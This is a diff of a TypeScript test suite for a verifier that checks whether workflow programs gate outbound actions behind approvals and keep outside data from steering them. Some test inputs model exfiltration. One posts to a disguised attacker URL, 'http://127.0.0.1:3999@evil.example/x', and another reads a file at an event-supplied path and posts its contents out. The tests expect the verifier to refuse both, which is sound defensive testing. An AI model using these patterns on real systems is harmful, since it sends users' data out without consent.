@@ -498,7 +498,7 @@ describe("checks 32 and 36", () => {
       approve("ok", { steps: [] }, inSequence(step("no", { op: "fail", code: "x", message: fixed("no") }))),
       post("p", bank),
     );
-    expect(refusals(await verify(program(gate)))).toEqual([]);
+    expect(refusals(await verify(program(gate)))).toEqual([[32, "verifier.approval-missing"]]);
     const around = inSequence(
       approve(
         "ok",
@@ -514,6 +514,38 @@ describe("checks 32 and 36", () => {
     expect(
       refusals(await verify(program(inSequence(post("p", fixed("http://127.0.0.1:3999@evil.example/x")))))),
     ).toEqual([[32, "verifier.approval-missing"]]);
+  });
+
+  test("32 an approval of one step is none for the next, nor for what takes the step back", async () => {
+    const write = call("w", "filesystem.write_file", { path: fixed("a.txt"), content: fixed("x") });
+    const before = inSequence(approve("ok", inSequence(write)), post("p", bank));
+    expect(refusals(await verify(program(before)))).toEqual([[32, "verifier.approval-missing"]]);
+    const inside = inSequence(approve("ok", inSequence(write, post("p", bank))));
+    expect(refusals(await verify(program(inside)))).toEqual([]);
+    const { op } = post("p", bank);
+    if (op.op !== "call" || write.op.op !== "call") throw new Error("both are calls");
+    const compensation = { capability: op.capability, params: op.params };
+    const takenBack = inSequence(approve("ok", inSequence({ ...write, op: { ...write.op, compensation } })));
+    const capabilities = [op.capability, write.op.capability];
+    const refused = await verify(program(takenBack, { capabilities }));
+    expect(refusals(refused)).toEqual([[32, "verifier.approval-missing"]]);
+    expect(exampleOf(refused, 32).summary).toContain("What takes back step `w`");
+  });
+
+  test("30 an approval of something else does not let data from outside steer", async () => {
+    const read = load("r", "filesystem.read_file", { path: cel("event.data.path") });
+    const write = call("w", "filesystem.write_file", { path: fixed("a.txt"), content: fixed("x") });
+    const send = call("p", "api_http.http_post", {
+      url: fixed("http://127.0.0.1:3999/x"),
+      body_json: cel("{'content': r.content}"),
+    });
+    const steered = [[30, "verifier.untrusted-steering"]];
+    expect(refusals(await verify(program(inSequence(read, approve("ok", inSequence(write)), send))))).toEqual(
+      steered,
+    );
+    expect(refusals(await verify(program(inSequence(read, approve("ok", inSequence(write, send))))))).toEqual(
+      [],
+    );
   });
 
   test("36 an effect that may happen twice is not retried", async () => {
